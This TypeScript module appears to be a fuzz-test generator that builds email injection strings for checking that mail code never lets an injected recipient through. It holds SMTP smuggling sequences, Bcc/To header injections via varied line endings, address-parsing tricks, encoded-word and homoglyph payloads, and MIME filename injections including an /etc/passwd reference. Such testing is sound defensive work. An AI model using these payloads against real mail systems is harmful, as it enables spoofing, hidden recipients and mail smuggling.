import { Buffer } from "node:buffer";
import { createHash } from "node:crypto";

/** A text that is meant to change the recipient or the content of a mail. */
export interface Injection {
  /** Its technique: `line break`, `smuggling`, `group`. */
  readonly kind: string;
  readonly text: string;
}

/** The domain in every injection: no envelope and no header address may ever have it. */
export const INJECTED_DOMAIN = "evil.example";

const EVIL = `mallory@${INJECTED_DOMAIN}`;
const LINE_ENDS = ["\r\n", "\n", "\r", "\n\r", "\r\r\n", "\0", "\r\n ", "\n\t", "\v", "\f", "\x85"];
const ODD_LINE_ENDS = [
  "\u2028",
  "\u2029",
  "\x1c",
  "\u560a",
  "\u560d",
  "%0d%0a",
  "\\r\\n",
  "=0D=0A",
];
const NEW_HEADERS = [
  `Bcc: ${EVIL}`,
  `To: ${EVIL}`,
  `Cc: ${EVIL}`,
  `Reply-To: ${EVIL}`,
  `Resent-To: ${EVIL}`,
  `Content-Type: text/html\r\n\r\n<b>${EVIL}</b>`,
  `Return-Path: <${EVIL}>`,
  `.\r\nMAIL FROM:<${EVIL}>`,
  `>\r\nRCPT TO:<${EVIL}`,
];

/** Texts that some servers accept as the end of a mail and others do not. */
const DOTS = [
  ...["\r\n.\r\n", "\n.\n", "\n.\r\n", "\r\n.\n", "\r.\r", "\r\n.\r", "\r.\r\n", "\n.\r", "\r.\n"],
  ...["\0.\0", "\r\n.\0\r\n", "\r\n\0.\r\n", "\n\0.\n", "\r\n..\r\n", "\r\r\n.\r\r\n", "\n\n.\n\n"],
  ...["\r\n. \r\n", "\r\n.\t\n", "\u2028.\u2028", "\x85.\x85", "\u560d\u560a.\u560d\u560a"],
];
const SMUGGLED = [
  `MAIL FROM:<${EVIL}>\r\nRCPT TO:<${EVIL}>\r\nDATA\r\nSubject: smuggled\r\n\r\nx\r\n.\r\n`,
  `mail FROM:<${EVIL}>\nrcpt TO:<${EVIL}>\ndata\nSubject: smuggled\n\nx\n.\n`,
  `EHLO ${INJECTED_DOMAIN}\rMAIL FROM:<${EVIL}>\rRCPT TO:<${EVIL}>\rDATA\rx\r.\r`,
  `RSET\r\nMAIL FROM:<${EVIL}>\r\n`,
];

const LISTS = [
  `ann@example.net, ${EVIL}`,
  `ann@example.net;${EVIL}`,
  `ann@example.net ${EVIL}`,
  `friends: ann@example.net, ${EVIL};`,
  `undisclosed-recipients:;, ${EVIL}`,
  `Ann <ann@example.net>, <${EVIL}>`,
  `<${EVIL}>`,
  `${EVIL}>, <ann@example.net`,
  `Ann <${EVIL}>`,
  `@${INJECTED_DOMAIN}:ann@example.net`,
  `@a,@b:${EVIL}`,
  `ann%${INJECTED_DOMAIN}@example.net`,
  `${INJECTED_DOMAIN}!ann@example.net`,
  `ann@example.net@${INJECTED_DOMAIN}`,
];
const COMMENTS = [
  `ann(${EVIL})@example.net`,
  `(x)ann@example.net(${EVIL})`,
  `ann@example.net (<${EVIL}>)`,
  `ann@(\\(${EVIL})example.net`,
  `ann@example.net(\r\n ${EVIL})`,
  `ann@example(.net\\)@${INJECTED_DOMAIN}).net`,
];
const QUOTED = [
  `"${EVIL}, x"@example.net`,
  `"ann@example.net> <${EVIL}"@example.net`,
  `"${EVIL} ann"@example.net`,
  `"ann\\"@${INJECTED_DOMAIN}"@example.net`,
  `"ann\r\nRCPT TO:<${EVIL}>"@example.net`,
  `"\\\r\n"@${INJECTED_DOMAIN}`,
  `ann."b c"@${INJECTED_DOMAIN}`,
  `"" <${EVIL}>`,
  `a" <${EVIL}>, "b`,
  `a\\" <${EVIL}>, \\"b`,
  `a\\`,
  `"`,
];
const ENCODED = [
  `=?utf-8?Q?a=22_=3Cmallory=40${INJECTED_DOMAIN}=3E=2C?=`,
  `=?utf-8?B?${Buffer.from(`x\r\nBcc: ${EVIL}`).toString("base64")}?=`,
  `=?utf-8?q?=0D=0ABcc:_mallory=40${INJECTED_DOMAIN}?=`,
  `=?utf-7?Q?+AA0-+AAo-Bcc:_${EVIL}?=`,
  `=?iso-2022-jp?Q?=1B$B?= ${EVIL}`,
  `=?utf-8?q?mallory=40${INJECTED_DOMAIN}=3E=00?=@example.net`,
  `=?x?q?=41=42=43mallory=40${INJECTED_DOMAIN}=3e=20?=ann@example.net`,
  `=?utf-8?B?`,
  `?=${EVIL}=?`,
  `+ADw-${EVIL}+AD4-`,
];
const LOOK_ALIKES = [
  `ann＠${INJECTED_DOMAIN}`,
  `ann＠${INJECTED_DOMAIN}@example.net`,
  `ann@example。net，mallory＠${INJECTED_DOMAIN}`,
  `＜${EVIL}＞`,
  `＂${EVIL}＂@example.net`,
  `ann@exаmple.net`,
  `аnn@example.net`,
  `ann@example.net\u202e${EVIL}`,
  `ann\u200b@example.net`,
  `ann@exam\u00adple.net`,
  `ann@ｅxample.net`,
  `ann@example․net`,
  `ann@℀.example.net`,
  `ann@１２７.0.0.1`,
  `ann@xn--.example.net`,
  `ann@xn--exmple-cua.net`,
  `ann@ßtraße.example`,
  `K@example.net`,
  `ann\u0301@example.net`,
  `\u{e0061}@example.net`,
  `\ud800${EVIL}`,
  `ann@\udfff.example`,
];
const PARTS = [
  `--=_x-a\r\nContent-Type: text/html\r\n\r\n${EVIL}`,
  `\r\n--\r\nContent-Disposition: attachment; filename=x.exe\r\n\r\nMZ`,
  `"; filename="${INJECTED_DOMAIN}.exe`,
  `a.pdf"\r\nContent-Type: text/html; x="`,
  `../../${INJECTED_DOMAIN}`,
  `x;name*0*=utf-8''${INJECTED_DOMAIN}%2eexe`,
  `x\u202efdp.${INJECTED_DOMAIN}`,
  `'%0d%0aBcc:${EVIL}`,
  `{{{body}}}{{lookup this "constructor"}}${EVIL}`,
  `<img src="file:///etc/passwd"><img src="cid:x@${INJECTED_DOMAIN}">`,
  `${"x".repeat(2_000)} ${EVIL}`,
  `${" ".repeat(900)}\r\n${EVIL}`,
  `${"é".repeat(998)}\n.\n${EVIL}`,
];

/** The position of an injection in an otherwise harmless text. */
const FRAMES: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `Ann${text}`,
  (text) => `${text}Ann`,
  (text) => `ann@example.net${text}`,
  (text) => `Ann é ${text} 🎉`,
];

/**
 * Returns texts that attack mail: all known ones, then mixtures of them. The same seed returns the same
 * texts.
 */
export function injectionStrings(
  { count, seed = "1" }: { count: number; seed?: string },
): Injection[] {
  const injections = known().slice(0, count);
  const base = known();
  for (let at = 0; injections.length < count; at++) {
    const [first, second, frame, end] = draw(`${seed}/${at}`);
    const [one, two] = [pick(base, first), pick(base, second)];
    const glue = pick([...LINE_ENDS, ...DOTS, "", " ", ","], end);
    injections.push({
      kind: `${one.kind} with ${two.kind}`,
      text: pick(FRAMES, frame)(`${one.text}${glue}${two.text}`),
    });
  }
  return injections;
}

function known(): Injection[] {
  const ends = [...LINE_ENDS, ...ODD_LINE_ENDS];
  const lists: Record<string, readonly string[]> = {
    "line break": ends.flatMap((end) => NEW_HEADERS.map((header) => `x${end}${header}`)),
    smuggling: DOTS.flatMap((dot) => SMUGGLED.map((commands) => `x${dot}${commands}`)),
    list: LISTS,
    comment: COMMENTS,
    quoted: QUOTED,
    "encoded word": ENCODED,
    "look-alike": LOOK_ALIKES,
    part: PARTS,
  };
  // One of each kind in turn, so that a short run has some of all.
  const longest = Math.max(...Object.values(lists).map((list) => list.length));
  return Array.from({ length: longest }).flatMap((_, at) =>
    Object.entries(lists).flatMap(([kind, list]) => {
      const text = list[at];
      return text === undefined ? [] : [{ kind, text }];
    })
  );
}

function pick<T>(list: readonly T[], number: number): T {
  return list[number % list.length] as T;
}

function draw(seed: string): [number, number, number, number] {
  const digest = createHash("sha256").update(seed).digest();
  return [0, 4, 8, 12].map((at) => digest.readUInt32LE(at)) as [number, number, number, number];
}
